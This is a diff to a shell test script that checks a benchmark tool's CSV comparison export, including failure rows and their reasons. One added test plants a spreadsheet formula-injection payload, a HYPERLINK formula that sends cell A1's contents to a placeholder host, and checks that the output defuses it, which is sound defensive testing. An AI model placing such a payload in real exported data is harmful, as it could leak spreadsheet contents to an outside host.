@@ -130,16 +130,63 @@ if need script; then
 	else notok "compare text on a 70-column terminal" "widest line $w"; fi
 fi
 
-# the CSV loads: its first line is the header row (python's csv module)
+# the CSV loads: its first line is the header row (python's csv module);
+# the failures come first, a line each (kind failure) with its cell and
+# reason, then the verdict rows (kind verdict), whose columns keep their order
 if command -v python3 >/dev/null 2>&1; then
 	"$VTBENCH" compare --db "$T/failed.db" --format csv >"$T/f.csv" 2>"$T/err"
+	"$VTBENCH" compare --db "$T/failed.db" --format json >"$T/f.json" 2>"$T/err"
 	got=$(python3 -c 'import csv, sys
 rows = list(csv.DictReader(open(sys.argv[1], newline="")))
 k = list(rows[0].keys())
-print(len(rows), k[:9], k[9:12], sorted(set(r["verdict"] for r in rows)),
+print(len(rows), k[:9], k[9:12], k[-8:], sorted(set(r["verdict"] for r in rows)),
       rows[0]["schema"], rows[0]["campaign"][-4:], rows[0]["boots_failed"])' "$T/f.csv" 2>&1)
-	expect_eq "compare csv: csv.DictReader reads the header and every row" "$got" \
-		"15 ['schema', 'campaign', 'against', 'boots_total', 'boots_ok', 'boots_failed', 'boots_timeout', 'boots_unexpected_topology', 'workload'] ['cell', 'metric', 'unit'] ['missing', 'same', 'worse'] vtbench-compare/2 0010 5"
+	expect_eq "compare csv: csv.DictReader reads the header and every line" "$got" \
+		"18 ['schema', 'campaign', 'against', 'boots_total', 'boots_ok', 'boots_failed', 'boots_timeout', 'boots_unexpected_topology', 'workload'] ['cell', 'metric', 'unit'] ['reason', 'kind', 'failure_campaign', 'failure_config', 'failure_label', 'failure_status', 'failure_boots', 'failure_reps'] ['', 'missing', 'same', 'worse'] vtbench-compare/2 0010 5"
+	# each failure of the JSON is a line, in its order, before any verdict
+	csvfail='import csv, json, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline="")))
+camp = json.load(open(sys.argv[2]))["campaign"]
+kinds = [r["kind"] for r in rows]
+nf = kinds.count("failure")
+print("order", kinds == ["failure"] * nf + ["verdict"] * (len(rows) - nf))
+want = [(camp["uuid"], f["config"], f["label"], f["cell"] or "", f["status"], str(f["boots"]),
+	 ",".join(map(str, f["reps"])), f["reason"]) for f in camp["failures"]]
+got = [(r["failure_campaign"], r["failure_config"], r["failure_label"], r["cell"],
+	r["failure_status"], r["failure_boots"], r["failure_reps"], r["reason"])
+       for r in rows if r["kind"] == "failure"]
+print("failures", len(want), got == want or got)
+for r in rows[:nf]:
+	print(r["cell"] or "-", r["failure_status"], r["reason"])'
+	got=$(python3 -c "$csvfail" "$T/f.csv" "$T/f.json" 2>&1)
+	expect_eq "compare csv: each failed boot and cell is a line with its reason, first" "$got" \
+		"order True
+failures 3 True
+wakeup failed wakeup: timer_create: Invalid argument
+- failed cannot start the domain: unsupported configuration: CPU topology doesn't match the vCPU count
+- timeout no record from the guest within 600 s"
+	# a reason is guest text: one a spreadsheet would run as a formula is
+	# defused like every other field (a leading ', OWASP)
+	cp "$T/failed.db" "$T/evil.db"
+	python3 -c 'import sqlite3, sys
+db = sqlite3.connect(sys.argv[1])
+db.execute("UPDATE result SET error = ? WHERE status <> ?", ("=HYPERLINK(\"http://x/?\"&A1,\"hi\")", "ok"))
+db.execute("UPDATE boot SET error = ? WHERE status <> ?", ("@SUM(A1)", "ok"))
+db.commit()' "$T/evil.db" || notok "compare csv: a crafted reason is stored"
+	"$VTBENCH" compare --db "$T/evil.db" --format csv >"$T/evil.csv" 2>"$T/err"
+	expect_grep "compare csv: a reason starting with = gets a leading '" "$T/evil.csv" \
+		",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"hi\"\")\",failure,"
+	"$VTBENCH" compare --db "$T/evil.db" --format json >"$T/evil.json" 2>"$T/err"
+	got=$(python3 -c 'import csv, sys
+rows = [r for r in csv.DictReader(open(sys.argv[1], newline="")) if r["kind"] == "failure"]
+print(len(rows), [c for r in rows for c in r.values() if c[:1] in ("=", "+", "-", "@")])
+for r in rows:
+	print(r["reason"])' "$T/evil.csv" 2>&1)
+	expect_eq "compare csv: crafted reasons read back defused, no field starts a formula" "$got" \
+		"3 []
+'=HYPERLINK(\"http://x/?\"&A1,\"hi\")
+'@SUM(A1)
+'@SUM(A1)"
 elif [ "${CI:-}" = true ]; then
 	notok "compare csv: python3 reads it back" "python3 is missing"
 fi
